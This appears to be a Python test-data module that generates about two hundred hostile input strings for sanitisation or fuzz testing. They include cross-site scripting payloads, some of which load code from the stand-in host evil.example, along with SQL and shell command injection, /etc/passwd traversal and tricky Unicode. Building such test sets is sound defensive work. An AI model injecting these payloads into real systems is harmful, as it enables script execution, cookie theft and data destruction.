"""Two hundred strings that want to be more than text. Each is different; those
that run set window.hit, open a dialog or ask evil.example for something."""

_SCRIPTS = [
    "<script>{}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{}",
    "<img src=x onerror={}>", "<img src=//evil.example/{}.png>",
    "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe src=//evil.example/?{}></iframe>", "<body onload={}>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<a href=javascript:{}>click</a>", "<video><source onerror={}></video>",
    "<object data=//evil.example/{}></object>",
    "<embed src=//evil.example/{}>",
    "<link rel=stylesheet href=//evil.example/{}.css>",
    "<style>@import '//evil.example/{}.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{}'>",
    "<base href=//evil.example/{}>", "<form action=//evil.example/{}><button>",
    "<math href=javascript:{}>x</math>", "<marquee onstart={}>",
    "</p></div><script>{}</script>", "</textarea><script>{}</script>",
    "</title><script>{}</script>", "--><script>{}</script>",
    "]]><script>{}</script>", "\"><script>{}</script>",
    "'><img src=x onerror={}>", "\" autofocus onfocus={} x=\"",
    "javascript:{}", "data:text/html,<script>{}</script>",
    "<div style=background:url(//evil.example/{})>",
    "<template><script>{}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "%3Cscript%3E{}%3C/script%3E",
    "${{{}}}", "{{{{{}}}}}", "<%= {} %>", "`${{{}}}`", "');{};//", "\");{};//",
]
_HITS = ["alert(1)", "window.hit=1", "confirm(document.cookie)"]

_TEXTS = [
    "", " ", "\t", "\n\n\n", "null", "undefined", "NaN", "true", "[]", "{}",
    "[object Object]", "__proto__", "constructor", "toString",
    "hasOwnProperty", "0", "-1", "1e309", "' OR 1=1 --", "'; DROP TABLE log;--",
    "%s%s%s%n", "{0}", "$(reboot)", "`reboot`", "| cat /etc/passwd",
    "../../../etc/passwd", "C:\\con\\con", "\\", "\\\\", "\"", "'", "`", "<", ">",
    "&", "&amp;", "&amp;amp;", "<!--", "-->", "<![CDATA[", "//evil.example",
    "https://evil.example/", "﻿BOM", "a\u0000b", "a\u0007b", "a\u001b[31mred",
    "\u202eright to left override", "\u202a\u202b\u202c\u202d",
    "\u2066isolate without end", "a\u200bb\u200cc\u200dd", "\u00ad\u00ad",
    "\u2028line\u2029paragraph", "\ufff9a\ufffab\ufffb", "\ufffd\ufffe",
    "Z̸̡͖͓̑a̶̧̤͗̊l̷͖̈́g̵̳͠o̵̹̿", "👩‍👩‍👧‍👦🏳️‍🌈🇪🇺", "𝕋𝕖𝕩𝕥",
    "ﷺ ﷽", "بِسْمِ ٱللَّٰهِ", "שָׁלוֹם", "開羅開羅", "ㅋㅋㅋ", "🐫" * 50, "W" * 3000,
    "\n" * 300, "ا" * 2000, "a " * 2000,
]


def hostile_strings(count=200):
    strings = [form.format(hit) for hit in _HITS for form in _SCRIPTS]
    strings += [text for text in _TEXTS]
    unique = list(dict.fromkeys(strings))
    if len(unique) < count:
        raise AssertionError(f"only {len(unique)} strings")
    return unique[-len(_TEXTS):] + unique[:count - len(_TEXTS)]
